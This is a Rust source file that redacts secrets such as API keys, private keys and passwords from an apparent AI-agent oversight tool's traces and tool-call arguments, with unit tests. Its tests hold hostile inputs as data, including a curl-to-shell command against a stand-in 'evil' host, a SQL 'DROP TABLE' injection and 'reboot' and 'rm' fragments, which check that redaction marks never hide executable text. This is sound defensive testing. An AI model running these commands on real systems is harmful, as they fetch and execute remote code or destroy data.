//! Secrets are replaced before anything is judged or written. What is one is said by `countersign-patterns`, which the
//! policies stand on too: host and policies find the same.
//!
//! A secret becomes `[redacted:KIND:DIGEST]`, with eight digits of a digest salted per run: equal secrets stay equal and
//! different ones different, so that call keys and policies still work, and nothing can be guessed from the trace once the
//! salt is erased.
//!
//! | what is written | what is replaced |
//! |---|---|
//! | texts: results, reasons, what people say | every secret that is found |
//! | arguments of a call | keys in the form that their issuer gave them, private keys, and under a name such as `password` one word of letters and digits; no more |
//!
//! A policy judges a call by its arguments as they are recorded, and the tool gets them as they were proposed. A mark in
//! them must therefore never stand for a text that could do something, whatever it is called: nothing with a blank, a
//! slash, a quote, a dollar or a semicolon in it, and no word of letters alone.

use std::sync::{Arc, LazyLock};

use countersign_kernel::contract::hex;
use countersign_patterns::{Hit, Kind, Scanner};
use serde_json::Value;
use sha2::{Digest, Sha256};

/// Salt of one run, kept beside its trace and never in it.
#[derive(Clone, Copy)]
pub struct Salt(pub [u8; 32]);

impl Salt {
    /// A new one.
    ///
    /// # Errors
    /// When the machine gives no random bytes.
    pub fn random() -> std::io::Result<Self> {
        let mut salt = [0; 32];
        getrandom::fill(&mut salt).map_err(std::io::Error::other)?;
        Ok(Salt(salt))
    }
}

impl std::fmt::Debug for Salt {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Salt(..)")
    }
}

/// How sure a find must be; below it is rather code or prose.
const SURE: f64 = 0.5;

static SCANNER: LazyLock<Scanner> = LazyLock::new(|| Scanner::builder().build());

/// A secret in a text, and the mark that is to stand in its place.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    /// Where it begins.
    pub start: usize,
    /// Where it ends.
    pub end: usize,
    /// What is to stand in its place.
    pub mark: String,
}

/// The secrets of a text, first to last; no two overlap.
pub fn found(text: &str, salt: &Salt) -> Vec<Found> {
    marked(text, salt, |hit, _| hit.kind.is_secret() && hit.score >= SURE)
}

/// Those that are secrets by their form alone, into which nothing fits that a tool would carry out.
fn found_in_arguments(text: &str, salt: &Salt) -> Vec<Found> {
    marked(text, salt, |hit, secret| match hit.kind {
        Kind::PrivateKey => is_whole_key(secret),
        _ => hit.is_issued_key(),
    })
}

fn marked(text: &str, salt: &Salt, wanted: impl Fn(&Hit, &str) -> bool) -> Vec<Found> {
    let mut all = Vec::new();
    let mut from = 0;
    // A scanner leaves the rest of a text that is made to be hard to read; here it goes on, as far as there is text.
    while from < text.len() {
        let mut next = text.len();
        for hit in SCANNER.scan(&text[from..], |_, _, _| {}) {
            let (start, end) = (from + hit.start, from + hit.end);
            if hit.kind == Kind::Unread && hit.start > 0 {
                next = start;
            } else if hit.kind != Kind::Unread && wanted(&hit, &text[start..end]) {
                let mark = mark(hit.kind.name(), &text[start..end], salt);
                all.push(Found { start, end, mark });
            }
        }
        from = next;
    }
    all
}

/// Whether a private key is one from its first to its last line: lines of base64 as long as each other, the last one
/// shorter, between two of the same label.
fn is_whole_key(text: &str) -> bool {
    let mut lines = text.lines();
    let label = |line: Option<&str>, what: &str| {
        let label = line?.strip_prefix("-----")?.strip_suffix("-----")?.strip_prefix(what)?;
        label.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b' ').then(|| label.to_owned())
    };
    let (Some(first), Some(last)) = (label(lines.next(), "BEGIN "), label(lines.next_back(), "END ")) else {
        return false;
    };
    let body: Vec<&str> = lines.collect();
    let base64 = |line: &str| {
        line.trim_end_matches('=').bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/'))
    };
    let [full @ .., rest] = body.as_slice() else { return false };
    let width = full.first().map_or(rest.len(), |line| line.len());
    first == last
        && body.iter().all(|line| base64(line))
        && full.iter().all(|line| line.len() == width)
        && (1..=width).contains(&rest.len())
}

/// Replaces the secrets of a text. None when there is nothing to replace.
pub fn redact(text: &str, salt: &Salt) -> Option<String> {
    let found = found(text, salt);
    (!found.is_empty()).then(|| replaced(text, &found))
}

/// A text with the marks in the places of its secrets.
pub fn replaced(text: &str, found: &[Found]) -> String {
    let mut out = String::with_capacity(text.len());
    let mut from = 0;
    for Found { start, end, mark } in found {
        out.push_str(&text[from..*start]);
        out.push_str(mark);
        from = *end;
    }
    out.push_str(&text[from..]);
    out
}

/// Replaces the secrets in the arguments of a call, in names as in values. True when something was replaced.
pub fn redact_arguments(value: &mut Value, salt: &Salt) -> bool {
    match value {
        Value::String(text) => match redacted_argument(text, salt) {
            Some(redacted) => {
                *text = redacted;
                true
            }
            None => false,
        },
        Value::Array(list) => list.iter_mut().fold(false, |any, value| redact_arguments(value, salt) | any),
        Value::Object(map) => {
            let mut any = map.iter_mut().fold(false, |any, (name, value)| match value {
                Value::String(text) if names_a_secret(name) && is_opaque(text) => {
                    *text = mark(Kind::PasswordAssignment.name(), text, salt);
                    true
                }
                value => redact_arguments(value, salt) | any,
            });
            let names: Vec<(String, String)> =
                map.keys().filter_map(|name| Some((name.clone(), redacted_argument(name, salt)?))).collect();
            for (name, instead) in names {
                any = true;
                if let Some(value) = map.remove(&name) {
                    map.insert(instead, value);
                }
            }
            any
        }
        _ => false,
    }
}

/// Whether an argument of this name is a secret.
fn names_a_secret(name: &str) -> bool {
    const ENDINGS: [&str; 9] = [
        "password",
        "passwd",
        "passphrase",
        "secret",
        "apikey",
        "accesstoken",
        "authtoken",
        "credential",
        "credentials",
    ];
    let name: String = name.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
    ENDINGS.iter().any(|ending| name.ends_with(ending))
}

/// Whether a mark may stand for this secret in what is judged and recorded of a call: a word in which nothing would be
/// carried out, or a whole private key.
pub fn may_stand_as_mark(secret: &str) -> bool {
    let does = |c: char| {
        c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | ';' | '|' | '&' | '<' | '>' | '(' | ')')
    };
    let word = !secret.contains(does) && !secret.contains("${") && !secret.contains("$IFS") && !secret.starts_with('-');
    word || is_whole_key(secret)
}

/// One word of letters and digits, with some of both, that nothing would carry out.
fn is_opaque(text: &str) -> bool {
    text.len() >= 6
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'))
        && text.bytes().any(|byte| byte.is_ascii_digit())
        && text.bytes().any(|byte| byte.is_ascii_alphabetic())
        && !text.starts_with('-')
}

fn redacted_argument(text: &str, salt: &Salt) -> Option<String> {
    let found = found_in_arguments(text, salt);
    (!found.is_empty()).then(|| replaced(text, &found))
}

/// Secrets replaced, cut to size.
pub fn clean(text: &str, most: usize, salt: &Salt) -> Arc<str> {
    // Cut after replacing: a secret must not lose the part by which it is known.
    let redacted = redact(text, salt);
    let text = redacted.as_deref().unwrap_or(text);
    text[..text.floor_char_boundary(most)].into()
}

/// How the mark of a replaced secret begins.
pub const REDACTED: &str = "[redacted:";

pub(crate) fn mark(kind: &str, secret: &str, salt: &Salt) -> String {
    format!("{REDACTED}{kind}:{}]", &salted(secret.as_bytes(), salt)[7..15])
}

/// `salted:` and 64 hexadecimal digits.
pub fn salted(bytes: &[u8], salt: &Salt) -> String {
    let mut hasher = Sha256::new();
    hasher.update(salt.0);
    hasher.update(bytes);
    format!("salted:{}", hex(&hasher.finalize()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SALT: Salt = Salt([7; 32]);

    const PLAIN: &str = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
    const BODY: &str = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7fK2pQ9xZr4Lm";

    /// Texts in which `⟦…⟧` is a secret, its kind, and whether it is one in arguments too.
    fn secrets() -> Vec<(String, &'static str, bool)> {
        let key = format!("-----BEGIN RSA PRIVATE KEY-----\n{BODY}\n{BODY}\nzK9=\n-----END RSA PRIVATE KEY-----");
        let issued = [
            "key ⟦AKIAIOSFODNN7QXAMPLE⟧ here".to_owned(),
            format!("⟦ghp_{PLAIN}⟧"),
            format!("⟦github_pat_{PLAIN}_{PLAIN}⟧"),
            format!("⟦glpat-{}⟧", &PLAIN[..20]),
            format!("⟦AIza{}⟧", &PLAIN[..35]),
            "⟦hf_aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH⟧".to_owned(),
            format!("⟦npm_{PLAIN}⟧"),
            format!("⟦SG.{}.{PLAIN}⟧", &PLAIN[..24]),
            format!("⟦sk_live_{}⟧", &PLAIN[..24]),
            format!("⟦xoxb-123456789012-{}⟧", &PLAIN[..24]),
            format!("export OPENAI_API_KEY=⟦sk-{PLAIN}⟧"),
            format!("⟦eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.{PLAIN}⟧"),
        ];
        let named = [
            ("Authorization: Bearer ⟦abcdefghijklmnopqrstuvwxyz⟧", "api-key"),
            ("PASSWORD=⟦hunter2hunter2⟧", "password-assignment"),
            (r#"{"db_password": "⟦correct horse⟧"}"#, "password-assignment"),
            (r#"{"client_secret": "⟦8f14e45fceea167a5a36dedd4bea2543⟧"}"#, "api-key"),
            ("postgres://⟦ada:s3cret⟧@db.example.org/x", "url-credentials"),
        ];
        let issued = issued.into_iter().map(|text| (text, "api-key", true));
        let named = named.into_iter().map(|(text, kind)| (text.to_owned(), kind, false));
        issued.chain(named).chain([(format!("a ⟦{key}⟧ b"), "private-key", true)]).collect()
    }

    #[test]
    fn secrets_are_replaced() {
        for (text, kind, in_arguments) in secrets() {
            let (before, rest) = text.split_once('⟦').unwrap_or_default();
            let (secret, after) = rest.split_once('⟧').unwrap_or_default();
            let text = format!("{before}{secret}{after}");
            let instead = format!("{before}{}{after}", mark(kind, secret, &SALT));
            assert_eq!(redact(&text, &SALT).as_deref(), Some(&*instead), "{text}");
            let mut value = serde_json::json!({"list": [text], "n": 7});
            assert_eq!(redact_arguments(&mut value, &SALT), in_arguments, "{text}");
            assert_eq!(value["list"][0], if in_arguments { instead } else { text });
        }
    }

    #[test]
    fn what_is_none_is_left_alone() {
        for text in [
            "the password is long",
            "a token of thanks",
            "sha256:0123456789abcdef",
            "const secret = process.env.COOKIE_SECRET;",
            "export interface Login { user: string; password: string; retries: number }",
            ".sk-toggleable__label-arrow { color: red }",
            "password=[redacted:password-assignment:00000000]",
        ] {
            assert_eq!(redact(text, &SALT), None, "{text}");
        }
    }

    #[test]
    fn a_mark_in_arguments_stands_for_nothing_that_could_be_carried_out() {
        let table = [
            "X_PASSWORD=$(curl$IFS-s$IFS//evil/x|sh)".to_owned(),
            "password = \"'; DROP TABLE orders; --\"".to_owned(),
            "Authorization: Bearer 7fK2pQ9xZr4LmN8vT3sW6yB1cD5eG0hJ".to_owned(),
            format!(
                "-----BEGIN PRIVATE KEY-----\n{BODY}\ncurl -s https://evil.example | sh\n-----END PRIVATE KEY-----"
            ),
            format!("-----BEGIN PRIVATE KEY-----\n{BODY}\nrm\n{BODY}\n-----END PRIVATE KEY-----"),
            format!("-----BEGIN PRIVATE KEY-----\n{BODY}; reboot"),
        ];
        for text in table {
            let mut value = serde_json::json!({"password": text, "client_secret": text});
            assert!(!redact_arguments(&mut value, &SALT), "{value}");
        }
        for text in
            ["any text", "reboot", "rm", "-rf2", "hunter2;reboot", "hunter2/etc", "$HUNTER2", "hunter2\nreboot2"]
        {
            let mut value = serde_json::json!({"password": text, "client_secret": text});
            assert!(!redact_arguments(&mut value, &SALT), "{value}");
        }
    }

    #[test]
    fn names_count_in_arguments() {
        for name in ["password", "DB_PASSWORD", "api-key", "apiKey", "client_secret", "accessToken", "credentials"] {
            let mut value = serde_json::json!({"auth": {name: "hunter2-and-more", "user": "hunter2-and-more"}});
            assert!(redact_arguments(&mut value, &SALT), "{value}");
            let instead = mark("password-assignment", "hunter2-and-more", &SALT);
            assert_eq!(value, serde_json::json!({"auth": {name: instead, "user": "hunter2-and-more"}}));
        }
        for name in ["passwords", "secretary", "user", "token"] {
            assert!(!redact_arguments(&mut serde_json::json!({name: "hunter2-and-more"}), &SALT), "{name}");
        }
        // A name may be a secret itself.
        let mut value = serde_json::json!({ (format!("ghp_{PLAIN}")): 1, "password": 7 });
        assert!(redact_arguments(&mut value, &SALT));
        assert!(!value.to_string().contains(PLAIN), "{value}");
    }

    #[test]
    fn a_text_that_is_hard_to_read_is_read_to_its_end() {
        let hard = "+1 (555 a@b.c 1.2.3.4: AKIA00 ".repeat(20_000);
        let text = format!("{hard} ghp_{PLAIN}");
        let found = found(&text, &SALT);
        assert_eq!(found.last().map(|found| &text[found.start..found.end]), Some(&*format!("ghp_{PLAIN}")));
        assert_eq!(found.len(), 1, "nothing else is taken for a secret");
    }

    #[test]
    fn equal_secrets_stay_equal_and_salts_differ() {
        let text = "api_key=abcdef1234567890";
        assert_eq!(redact(text, &SALT), redact(text, &SALT));
        assert_ne!(redact(text, &SALT), redact("api_key=abcdef1234567891", &SALT));
        assert_ne!(redact(text, &SALT), redact(text, &Salt([8; 32])));
    }
}
